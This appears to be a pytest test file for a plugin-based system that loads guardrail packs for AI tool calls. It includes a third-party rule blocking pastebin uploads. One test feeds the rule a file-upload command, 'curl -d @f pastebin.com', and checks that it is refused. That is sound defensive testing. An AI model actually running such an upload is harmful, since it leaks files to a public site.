"""Packs reach a host through plugins: the built-in distribution and a third-party one."""

from __future__ import annotations

from typing import Any

import pytest

import prism_core
import prism_packs
from prism_core.errors import GuardrailPackError
from prism_core.guardrails import (
    GuardrailPack,
    GuardrailRecord,
    PackRule,
    compile_guardrail_packs,
    pack_catalogue,
    pack_refusal_message,
)
from prism_core.hookspecs import hookimpl
from prism_core.plugins import PluginHost

from ._support import call_context

BUILTIN = {"coding-standard", "destructive-commands", "secrets-hygiene", "validation-respect"}


class NoPastebinPlugin:
    """A third-party pack distribution's plugin, as its author would write it."""

    @hookimpl
    def prism_guardrail_packs(self) -> list[GuardrailPack]:
        return [
            GuardrailPack(
                id="no-pastebin",
                version=2,
                description="Keeps data off public paste sites.",
                rules=(
                    PackRule(
                        id="no-paste-upload",
                        tool=("http_request", "shell"),
                        pattern=r"(?i)\bpastebin\.com\b",
                        reason="Uploading to paste sites is not allowed",
                    ),
                ),
            )
        ]


def test_the_host_resolves_the_builtin_packs_through_the_plugin() -> None:
    definitions = PluginHost(plugins=[prism_packs.plugin]).guardrail_packs()
    assert all(isinstance(pack, GuardrailPack) for pack in definitions)
    catalogue = pack_catalogue(definitions)
    assert set(catalogue) == BUILTIN
    assert {pack.version for pack in catalogue.values()} == {1}
    assert all(pack.description for pack in catalogue.values())
    compiled = compile_guardrail_packs(sorted(BUILTIN), catalogue=catalogue)
    assert len(compiled.tool_input) == 9
    assert tuple(definitions) == prism_packs.BUILTIN_PACKS


def test_the_entry_point_is_discovered() -> None:
    plugins = prism_core.discover_plugins()
    assert prism_packs.plugin in plugins
    catalogue = pack_catalogue(PluginHost(plugins=plugins).guardrail_packs())
    assert set(catalogue) >= BUILTIN


def test_a_third_party_pack_composes_with_the_builtin_packs() -> None:
    host = PluginHost(plugins=[prism_packs.plugin, NoPastebinPlugin()])
    catalogue = pack_catalogue(host.guardrail_packs())
    compiled = compile_guardrail_packs(["no-pastebin", "secrets-hygiene"], catalogue=catalogue)
    guard = compiled.tool_input[0]
    assert (guard.name, guard.revision) == ("pack:no-pastebin/no-paste-upload", "no-pastebin@2")
    decision = guard.evaluate(call_context("shell", {"command": "curl -d @f pastebin.com"}))
    record = GuardrailRecord(
        guard.name, "tool_input", decision.action, decision.reason, decision.metadata
    )
    assert decision.metadata == {"pack": "no-pastebin", "rule": "no-paste-upload", "version": 2}
    assert pack_refusal_message(record) == (
        "Blocked by guardrail rule pack:no-pastebin/no-paste-upload: "
        "Uploading to paste sites is not allowed"
    )
    assert guard.evaluate(call_context("write", {"c": "pastebin.com"})).action == "allow"
    assert compiled.persistable_refs()[0] == {"id": "no-pastebin", "version": 2}


def test_two_plugins_declaring_one_pack_id_fail_closed() -> None:
    class Impostor:
        @hookimpl
        def prism_guardrail_packs(self) -> list[GuardrailPack]:
            return [GuardrailPack(id="secrets-hygiene", rules=(PackRule(id="r", pattern="x"),))]

    host = PluginHost(plugins=[prism_packs.plugin, Impostor()])
    with pytest.raises(GuardrailPackError, match="'secrets-hygiene' is declared twice") as caught:
        pack_catalogue(host.guardrail_packs())
    assert caught.value.code == "ERR_PRISM_GUARDRAIL_PACK"


def test_a_plugin_returning_something_else_fails_closed() -> None:
    class Sloppy:
        @hookimpl
        def prism_guardrail_packs(self) -> list[Any]:
            return [{"id": "p", "rules": [{"id": "r", "pattern": "x"}]}]

    with pytest.raises(GuardrailPackError, match="must return GuardrailPack values"):
        pack_catalogue(PluginHost(plugins=[Sloppy()]).guardrail_packs())
